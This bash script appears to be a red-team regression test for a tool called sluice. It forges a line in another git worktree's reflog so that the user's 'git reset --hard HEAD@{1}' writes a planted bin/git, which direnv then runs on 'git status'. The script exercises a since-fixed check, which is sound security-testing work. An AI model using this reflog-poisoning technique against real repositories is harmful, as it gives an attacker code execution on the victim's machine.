#!/usr/bin/env bash
# red team 50, 4: one line appended to the user's other worktree's HEAD
# reflog, "C F ... reset: moving to HEAD": its old id C (the command's
# commit: feature's tree plus an executable bin/git), its new id F
# (feature's own commit). git's HEAD@{1} is the old id of the newest line
# (where the log has a gap, as here), so the user's `git reset --hard
# HEAD@{1}` in w2 goes to C and writes bin/git; `git status` there with
# direnv's PATH_add bin runs it. Before the fix git-later-pointers.c
# compared each new line's new id only. The run is in the main worktree
# and writes git objects and .git/worktrees/w2/logs/HEAD.
# usage: 50-w2-reflog-old-id.sh /path/to/sluice   (as root or a user)
NAME=w2-reflog-old-id
HOLE="a line of w2's logs/HEAD with the command's commit as its old id; the user's git reset --hard HEAD@{1} in w2 wrote bin/git, git status ran it"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1/main" && git -C "$1/main" worktree add -q "$1/w2" -b feature; }
run_dir() { echo "$1/main"; }
attack() {
  plant "$1" feature
  cat <<'EOA'
&& f=$($G rev-parse feature)
&& printf "%s %s t <t@example.invalid> $(date +%s) +0000\treset: moving to HEAD\n" $C $f >>.git/worktrees/w2/logs/HEAD
EOA
}
trigger() { git -C "$1/w2" reset -q --hard 'HEAD@{1}' >/dev/null 2>&1; user_status "$1/w2"; }
finish
